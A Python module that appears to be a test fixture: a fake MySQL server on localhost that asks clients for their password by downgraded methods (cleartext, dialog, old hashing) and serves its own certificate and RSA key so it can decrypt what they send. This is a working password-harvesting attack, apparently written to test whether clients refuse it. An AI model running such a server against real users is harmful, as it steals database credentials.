"""A server that is after the password: it asks for it by each method that clients know, and keeps what it hears.

It speaks the protocol's login (MySQL Internals, "Connection Phase") and nothing after it. Its certificate is its own,
and so is its RSA key: what is encrypted with either, it reads.
"""

from __future__ import annotations

import datetime
import socket
import ssl
import struct
import threading
from contextlib import closing, suppress
from functools import cache
from pathlib import Path
from types import TracebackType
from typing import Literal, Self

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa

Method = Literal["clear", "dialog", "old", "older", "sha2", "sha2-switch", "sha256", "sha256-switch"]
METHODS: tuple[Method, ...] = ("clear", "dialog", "old", "older", "sha2", "sha2-switch", "sha256", "sha256-switch")

_SALT = b"abcdefghijklmnopqrst"
_TLS = 0x0800
_CAPABILITIES = 0x00DF_F7FF & ~_TLS  # all that a server of today offers, compression left out


@cache
def own_key() -> rsa.RSAPrivateKey:
    """The key of the server's own."""
    return another_key()


def another_key() -> rsa.RSAPrivateKey:
    """A new one."""
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def certificate(directory: Path, key: rsa.RSAPrivateKey) -> tuple[Path, Path]:
    """A certificate that nobody else has signed, and its key, as files."""
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "thief")])
    now = datetime.datetime.now(datetime.UTC)
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(7)
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .sign(key, hashes.SHA256())
    )
    paths = directory / "thief.pem", directory / "thief.key"
    paths[0].write_bytes(made.public_bytes(serialization.Encoding.PEM))
    paths[1].write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    return paths


class PasswordThief:
    """Asks each connection for the password by one method, inside TLS where it has a directory for a certificate."""

    def __init__(self, method: Method, directory: Path | None = None) -> None:
        self._method = method
        self._tls: ssl.SSLContext | None = None
        if directory is not None:
            self._tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            self._tls.load_cert_chain(*certificate(directory, own_key()))
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        self.heard: list[bytes] = []
        """Packets of clients, and what was decrypted of them."""
        self.told: list[bytes] = []
        """What came in answer to the request for the password."""
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, at: TracebackType | None) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._thread.join()

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return  # closed
            with client, suppress(OSError, EOFError, ValueError):  # it hangs up, or sends what nobody has encrypted
                client.settimeout(30)
                with closing(_Wire(client, self.heard)) as wire:
                    self._ask(wire)

    def _ask(self, wire: _Wire) -> None:
        plugin = {"sha2": b"caching_sha2_password", "sha256": b"sha256_password"}.get(
            self._method, b"mysql_native_password"
        )
        capabilities = _CAPABILITIES | (_TLS if self._tls else 0)
        wire.send(
            b"\x0a8.0.99\0" + struct.pack("<I", 7) + _SALT[:8] + b"\0" + struct.pack("<H", capabilities & 0xFFFF)
            + b"\xff\x02\0" + struct.pack("<H", capabilities >> 16) + b"\x15" + bytes(10) + _SALT[8:] + b"\0"
            + plugin + b"\0"
        )  # fmt: skip
        wire.take()
        if self._tls:
            wire.encrypt(self._tls)
            wire.take()
        match self._method:
            case "clear":
                wire.send(b"\xfemysql_clear_password\0")
            case "dialog":
                wire.send(b"\xfedialog\0\x04Password: ")
            case "old":
                wire.send(b"\xfemysql_old_password\0" + _SALT[:8] + b"\0")
            case "older":
                wire.send(b"\xfe")
            case "sha2":
                wire.send(b"\x01\x04")
            case "sha2-switch":
                wire.send(b"\xfecaching_sha2_password\0" + _SALT + b"\0")
                wire.take()
                wire.send(b"\x01\x04")
            case "sha256-switch":
                wire.send(b"\xfesha256_password\0" + _SALT + b"\0")
        if self._method.startswith("sha") and not self._tls:
            if self._method != "sha256":
                wire.take()  # the request for the key
            public = own_key().public_key()
            wire.send(
                b"\x01"
                + public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
            )
        self.told.append(wire.take())
        if self._method.startswith("sha") and not self._tls:
            oaep = padding.OAEP(padding.MGF1(hashes.SHA1()), hashes.SHA1(), None)
            mixed = own_key().decrypt(self.told[-1], oaep)
            self.heard.append(bytes(each ^ _SALT[at % len(_SALT)] for at, each in enumerate(mixed)))


class _Wire:
    """Packets to and from one client."""

    def __init__(self, client: socket.socket, heard: list[bytes]) -> None:
        self._client = client
        self._heard = heard
        self._number = 0

    def encrypt(self, context: ssl.SSLContext) -> None:
        self._client = context.wrap_socket(self._client, server_side=True)

    def close(self) -> None:
        self._client.close()

    def send(self, payload: bytes) -> None:
        self._client.sendall(struct.pack("<I", len(payload) | self._number << 24) + payload)

    def take(self) -> bytes:
        head = self._exactly(4)
        payload = self._exactly(int.from_bytes(head[:3], "little"))
        self._number = head[3] + 1
        self._heard.append(payload)
        return payload

    def _exactly(self, size: int) -> bytes:
        data = b""
        while len(data) < size:
            piece = self._client.recv(size - len(data))
            if not piece:
                raise EOFError
            data += piece
        return data
